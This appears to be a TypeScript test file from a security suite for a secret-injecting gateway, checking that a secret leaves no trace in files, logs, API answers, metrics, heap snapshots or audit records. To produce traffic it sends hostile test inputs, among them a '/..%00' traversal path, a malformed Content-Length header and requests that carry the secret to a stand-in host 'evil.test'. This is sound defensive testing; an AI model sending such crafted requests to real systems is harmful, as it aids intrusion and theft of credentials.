// Traces that secrets leave: files, logs, answers of the API, metrics, the heap after they were deleted.
import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { row } from "../row.ts";
import { spellingIn } from "../spellings.ts";
import { asAgent, startSubject, type Subject } from "../subject-process.ts";
import { connect, open, send, takeIn } from "../wire.ts";
import { type World, authorityOf } from "../world.ts";

const CLASS = "traces";
const bearer = { headerName: "Authorization", valueFormat: "Bearer {value}" };

interface Busy {
  readonly subject: Subject;
  readonly value: string;
  readonly secretId: string;
}

/** A gateway that did a little of everything with a value that is known. */
async function startBusy(world: World): Promise<Busy> {
  const value = `sk-trace-${randomBytes(24).toString("hex")}`;
  const subject = await startSubject({ places: [world.api, world.other, ...Object.values(world.bad)] });
  const made = await subject.api("POST", "/v1/secrets", {
    name: "Traced key",
    type: "generic",
    value,
    hostPattern: "*.attack.test",
    injectionConfig: bearer,
  });
  const { id } = JSON.parse(made.text) as { id: string };
  await traffic({ ...world, proxy: asAgent(subject) }, value);
  await mistakes(subject, value);
  return { subject, value, secretId: id };
}

/** Calls that succeed, are refused and fail, most of them with the value in them. */
async function traffic(world: World, value: string): Promise<void> {
  const { api } = world;
  api.origin.handle((request, response) => void response.end(`you sent ${request.headers.authorization}`));
  await send(world, "tunnel-tls", api, { path: `/ok?key=${value}` });
  await send(world, "websocket", api, { path: "/socket" });
  await send(world, "tunnel-tls", api, { path: "/..%00", fields: [`X-Key: ${value}`] });
  await send(world, "tunnel-tls", api, { host: "evil.test", fields: [`Authorization: Bearer ${value}`] });
  await send(world, "tunnel-tls", api, { fields: [`Content-Length: x${value}`] });
  for (const place of Object.values(world.bad))
    await send(world, "tunnel-tls", place, { fields: [`X-Key: ${value}`] });
  api.origin.handle((request) => void request.socket.end("HTTP/1.1 nonsense\r\n\r\n"));
  await send(world, "tunnel-tls", api, { path: "/broken" });
  const tunnel = await open(world, "tunnel-tls", authorityOf(api), api.host);
  if (tunnel.ok) tunnel.socket.destroy();
  const socket = await connect(world.proxy);
  socket.write(
    `GET http://user:${value}@evil.test/ HTTP/1.1\r\nHost: evil.test\r\nProxy-Authorization: ${world.proxy.credentials}\r\n\r\n`,
  );
  await takeIn(socket);
  world.reset();
}

/** Calls of the API that are refused while they hold the value. */
async function mistakes(subject: Subject, value: string): Promise<void> {
  await subject.api("POST", "/v1/secrets", { name: "x", type: "generic", value, hostPattern: "not a host" });
  await subject.api("POST", "/v1/secrets", { name: "x", type: "wrong", value });
  await subject.api("POST", "/v1/secrets", { value });
  const socket = await connect(subject.proxy);
  socket.write(
    `POST /v1/secrets HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60\r\nContent-Type: application/json\r\n\r\n{"value":"${value}"`,
  );
  await takeIn(socket, () => false).catch(() => undefined);
}

const READ_ROUTES = [
  "agents",
  "secrets",
  "rules",
  "audit?limit=1000",
  "container-config?agent=worker",
  "counts",
  "user",
  "user/api-key",
  "api-keys",
  "skill/gateway",
  "gateway/ca",
  "openapi.json",
];

function filesBelow(directory: string): string[] {
  return readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name));
}

export const rows = [
  row({
    id: "21.1",
    class: CLASS,
    name: "No value is in the files, the log, the API's answers or the metrics",
    ingresses: ["tunnel-tls"],
    needs: ["own"],
    async on({ world, check }) {
      const { subject, value } = await startBusy(world);
      try {
        const { apiKey, home, token } = subject;
        for (const route of READ_ROUTES) {
          const { text } = await subject.api("GET", `/v1/${route}`);
          check(spellingIn(text, value) === null, `GET /v1/${route} gives the value`);
          check(!text.includes(apiKey), `GET /v1/${route} gives the admin key`);
          check(
            route.startsWith("container-config") || !text.includes(token),
            `GET /v1/${route} gives a token`,
          );
        }
        const { text: metrics } = await subject.api("GET", "/metrics");
        check(
          spellingIn(metrics, value) === null && !metrics.includes("attack.test"),
          "the metrics name the value or a host",
        );
        for (const secret of [value, apiKey, token]) {
          check(spellingIn(subject.output(), secret) === null, "the log holds a value");
          for (const file of filesBelow(home))
            check(
              spellingIn(readFileSync(file, "latin1"), secret) === null,
              `${path.basename(file)} holds a value`,
            );
        }
        check(
          filesBelow(home).some((file) => statSync(file).size > 0),
          "there are no files",
        );
      } finally {
        await subject.end();
      }
    },
  }),
  row({
    id: "21.2",
    class: CLASS,
    name: "After a secret was deleted the heap does not hold its value",
    ingresses: ["tunnel-tls"],
    needs: ["own"],
    async on({ world, check }) {
      const { subject, value, secretId } = await startBusy(world);
      try {
        const { status } = await subject.api("DELETE", `/v1/secrets/${secretId}`);
        check(status === 204, `the secret could not be deleted (${status})`);
        const heap = readFileSync(await subject.heapSnapshot(), "latin1");
        check(heap.includes("worker"), "the snapshot is empty");
        check(!heap.includes(value), "the value is in the heap");
      } finally {
        await subject.end();
      }
    },
  }),
  row({
    id: "21.3",
    class: CLASS,
    name: "A value that a client writes into a path is not on record",
    ingresses: ["tunnel-tls"],
    needs: ["own"],
    async on({ world, ingress, check }) {
      const { own, secret } = world;
      if (own === null || secret === null) return;
      const written = encodeURIComponent(secret);
      for (const path of [`/x/${written}`, `/admin/${written}`, `/..%00${written}`])
        await send(world, ingress, world.api, { path });
      const records = JSON.stringify(await own.gateway.audit());
      check(!records.includes(written) && !records.includes(secret), "the audit holds the value");
    },
  }),
];
